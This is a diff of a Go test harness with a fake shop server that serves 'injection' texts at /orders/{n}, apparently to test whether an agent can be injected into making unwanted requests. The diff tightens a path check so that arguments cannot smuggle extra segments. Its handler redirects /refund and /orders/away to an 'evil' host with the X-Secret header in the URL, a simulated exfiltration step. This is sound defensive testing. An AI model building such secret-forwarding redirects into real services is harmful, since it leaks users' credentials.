@@ -79,7 +79,7 @@ func newShop(t *testing.T, evil string, texts []injection) *shop {
 // ServeHTTP answers /orders/{n} with the nth text, and sends /orders/away and /refund elsewhere.
 func (s *shop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	s.mu.Lock()
-	s.seen = append(s.seen, r.Method+" "+r.URL.Path)
+	s.seen = append(s.seen, r.Method+" "+r.URL.EscapedPath())
 	s.mu.Unlock()
 	if r.URL.Path == "/refund" || r.URL.Path == "/orders/away" {
 		http.Redirect(w, r, s.evil+"/?c="+r.Header.Get("X-Secret"), http.StatusTemporaryRedirect)
@@ -278,7 +278,7 @@ func checkShop(t *testing.T, listed *shop) {
 	defer listed.mu.Unlock()
 	for _, seen := range listed.seen {
 		path, ok := strings.CutPrefix(seen, "GET /orders/")
-		if seen != "POST /refund" && (!ok || strings.Contains(path, "admin") && strings.Contains(path, "/")) {
+		if seen != "POST /refund" && (!ok || strings.Contains(path, "/")) { // an argument stays one segment of the address
 			t.Errorf("the shop was asked for %q", seen)
 		}
 	}
